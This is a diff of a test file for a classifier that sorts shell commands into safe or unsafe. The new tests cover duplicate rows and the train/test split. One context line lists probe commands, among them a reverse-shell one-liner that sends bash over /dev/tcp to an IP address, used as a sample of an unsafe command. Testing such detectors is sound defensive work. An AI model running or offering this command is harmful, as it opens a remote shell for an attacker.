@@ -4,10 +4,11 @@ import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { readModelFile, saveModelFile } from '../../src/core/model/model-file';
+import { formatTrainingReport } from '../../src/core/model/report-text';
 import { shippedFeaturePolicy } from '../../src/core/model/knowledge-tokens';
 import { createPredictor } from '../../src/core/model/predictor';
 import { trainInWorker } from '../../src/core/model/train-in-worker';
-import { TrainingDataError, trainModel, type TrainProgress } from '../../src/core/model/trainer';
+import { TrainingDataError, trainModel, trainTestSplit, type TrainProgress } from '../../src/core/model/trainer';
 import { separableRows } from './fixtures';
 
 const FAST = { trees: 15, samplesPerClass: 40 };
@@ -15,7 +16,34 @@ const PROBES = ['git log --oneline', 'bash -i >& /dev/tcp/192.168.1.9/443 0>&1',
 
 test('fewer than 10 labelled rows gives the seed error text', () => {
   const rows = separableRows().slice(0, 9);
-  assert.throws(() => trainModel([...rows, { command: 'ls', label: 2 }]), (e: Error) => e instanceof TrainingDataError && e.message === 'Not enough labeled training data (9 samples)');
+  assert.throws(
+    () => trainModel([...rows, { command: 'ls', label: 2 }]),
+    (e: Error) => e instanceof TrainingDataError && e.message === 'Not enough labeled training data (9 samples): 1 of the 10 rows is unlabelled or unknown. Training needs at least 10 distinct commands labelled safe or unsafe.',
+  );
+});
+
+test('a command repeated with the same label counts once, for the minimum and for the split', () => {
+  const distinct = separableRows().filter((r, i, all) => all.findIndex((o) => o.command === r.command && o.label === r.label) === i);
+  const nine = distinct.slice(0, 9);
+  assert.throws(() => trainModel([...nine, ...nine]), /^TrainingDataError: Not enough labeled training data \(9 samples\): 9 rows repeat a command already counted\./);
+  const once = trainModel(distinct, FAST);
+  const thrice = trainModel([...distinct, ...distinct, ...distinct], FAST);
+  // The same model and the same report: repeats can no longer be graded as unseen commands.
+  assert.deepEqual(thrice.forest, once.forest);
+  assert.deepEqual({ ...thrice.metrics, repeatedRows: 0 }, once.metrics);
+  assert.equal(thrice.metrics.repeatedRows, distinct.length * 2);
+  assert.match(formatTrainingReport(thrice), new RegExp(`^Trained on ${once.metrics.trainRows} commands, tested on ${once.metrics.testRows} others \\(labels: .*; ${distinct.length * 2} repeated rows counted once\\)`));
+});
+
+test('a command labelled both ways is never on both sides of the split', () => {
+  const rows = separableRows().filter((r, i, all) => all.findIndex((o) => o.command === r.command) === i);
+  // Every command also labelled the other way: a split by row would test some of them on their twin.
+  const both = [...rows, ...rows.map((r) => ({ ...r, label: 1 - r.label }))];
+  const { train, test: held } = trainTestSplit(both, 0.2, 42);
+  assert.ok(held.length > 0 && train.length > 0);
+  const trainCommands = new Set(train.map((i) => both[i].command));
+  assert.deepEqual(held.filter((i) => trainCommands.has(both[i].command)), []);
+  assert.equal(trainModel(both, FAST).metrics.repeatedRows, 0);
 });
 
 test('a single class names the missing class', () => {
@@ -37,7 +65,9 @@ test('a class that cannot be on both sides of the split is a data error, not a c
 test('a trained model separates clearly different commands and reports its evaluation', () => {
   const model = trainModel(separableRows(), FAST);
   const m = model.metrics;
-  assert.equal(m.trainRows + m.testRows, separableRows().length);
+  const distinct = new Set(separableRows().map((r) => `${r.label} ${r.command}`)).size;
+  assert.equal(m.trainRows + m.testRows, distinct);
+  assert.equal(m.repeatedRows, separableRows().length - distinct);
   assert.ok(m.unsafe.support > 0 && m.safe.support > 0);
   assert.ok(m.rocAuc > 0.9, `AUC ${m.rocAuc}`);
   assert.ok(m.unsafe.f1 > 0.8, `F1 ${m.unsafe.f1}`);
